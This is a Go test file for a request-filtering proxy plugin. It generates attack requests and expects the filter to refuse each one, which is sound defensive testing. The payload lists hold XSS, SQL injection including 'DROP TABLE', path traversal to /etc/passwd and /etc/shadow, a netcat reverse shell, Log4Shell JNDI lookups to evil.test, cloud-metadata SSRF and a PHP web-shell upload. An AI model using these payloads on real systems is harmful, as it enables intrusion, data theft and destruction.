package main

import (
	"math/rand/v2"
	"net/url"
	"strconv"
	"strings"

	"github.com/sluiceproxy/sluice/plugintest"
)

// payloads are attacks by family, each one that paranoia level 1 knows.
func payloads() map[string][]string {
	return map[string][]string{
		"xss":                 {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(document.cookie)", "<iframe src=javascript:alert(1)>"},
		"sqli":                {"1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE users--", "1' AND SLEEP(5)--", "admin'--", "1 OR 1=1--"},
		"lfi":                 {"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/shadow", "....//....//etc/passwd"},
		"rce":                 {"; cat /etc/passwd", "$(cat /etc/passwd)", "`cat /etc/passwd`", "| nc -e /bin/sh 10.0.0.1 4444", "() { :; }; /bin/bash -c id"},
		"php":                 {"<?php system('id'); ?>", "php://input", "phpinfo();eval($_GET[1])"},
		"java":                {"${jndi:ldap://evil.test/a}", "${${lower:j}ndi:ldap://evil.test/a}", "java.lang.Runtime.getRuntime().exec('id')"},
		"ssrf":                {"http://169.254.169.254/latest/meta-data/"},
		"nosql and templates": {`{"$where":"sleep(1)"}`, "constructor.prototype.x=process.mainModule.require('child_process')"},
	}
}

// places are where an attack can be put into a request.
func places() map[string]func(s *sample, value string) {
	return map[string]func(s *sample, value string){
		"query": func(s *sample, value string) { s.Path = addQuery(s.Path, "x", value) },
		"cookie": func(s *sample, value string) {
			s.Headers = append(s.Headers, [2]string{"cookie", "theme=dark; x=" + strings.ReplaceAll(value, ";", "%3B")})
		},
		"form": func(s *sample, value string) {
			s.body(formType, "a=1&x="+url.QueryEscape(value)+"&b=2")
		},
		"json": func(s *sample, value string) {
			s.body(jsonType, `{"a":1,"deep":{"list":["b",`+strconv.Quote(value)+`]}}`)
		},
	}
}

func (s *sample) body(kind, text string) {
	s.Method, s.Body = "POST", text
	s.Headers = append(s.Headers, [2]string{"content-type", kind})
}

func addQuery(path, name, value string) string {
	sep := "?"
	if strings.Contains(path, "?") {
		sep = "&"
	}
	return path + sep + name + "=" + url.QueryEscape(value)
}

// attacks are each attack at each place, and those that are requests of their own.
func attacks() (all []sample) {
	for family, list := range payloads() {
		for _, payload := range list {
			for place, put := range places() {
				all = append(all, attack(family, place, payload, put))
			}
		}
	}
	header := func(name, value string) sample { return got(name, "GET", "/", [2]string{name, value}) }
	scanner := got("scanner", "GET", "/")
	scanner.Headers[0][1] = "sqlmap/1.8#stable (https://sqlmap.org)"
	for _, s := range []sample{
		header("x-any", "${jndi:ldap://evil.test/a}"), header("referer", "https://a.test/<script>alert(1)</script>"), scanner,
		got("file", "GET", "/.git/config"), got("file", "GET", "/.env"), got("file", "GET", "/wp-config.php.bak"), got("method", "TRACK", "/"),
		typed("type", "POST", "application/x-unknown", "a"),
		upload("shell.php", "application/x-php", "<?php system('id'); ?>"), upload("a.php", "image/png", "x"),
		typed("no JSON", "POST", jsonType, `{"a":`),
	} {
		if s.name == "no JSON" || s.name == "method" { // Envoy doesn't know the method
			s.or = 400
		}
		s.refused = true
		all = append(all, s)
	}
	return all
}

func attack(family, place, payload string, put func(*sample, string)) sample {
	s := got(family+" in "+place, "GET", "/items?page=1")
	put(&s, payload)
	s.refused = true
	return s
}

// one picks one of a list.
func one[T any](r *rand.Rand, list []T) T { return list[r.IntN(len(list))] }

// random is one of the harmless requests with other harmless things in it, and every other
// time an attack.
func random(r *rand.Rand, harmless []sample) sample {
	s := one(r, harmless)
	s.Headers = append(plugintest.Headers{}, s.Headers...)
	s.Headers[0][1] = one(r, agents())
	for range r.IntN(4) {
		s.Path = addQuery(s.Path, "p"+strconv.Itoa(r.IntN(1000)), one(r, texts()))
	}
	if r.IntN(2) == 0 {
		return s
	}
	family := one(r, []string{"xss", "sqli", "lfi", "rce", "php", "java"})
	place := one(r, []string{"query", "cookie", "form", "json"})
	payload := one(r, payloads()[family])
	if s.Body != "" && (place == "form" || place == "json") {
		place = "query"
	}
	places()[place](&s, payload)
	s.name, s.refused = s.name+", "+family+" in "+place, true
	return s
}
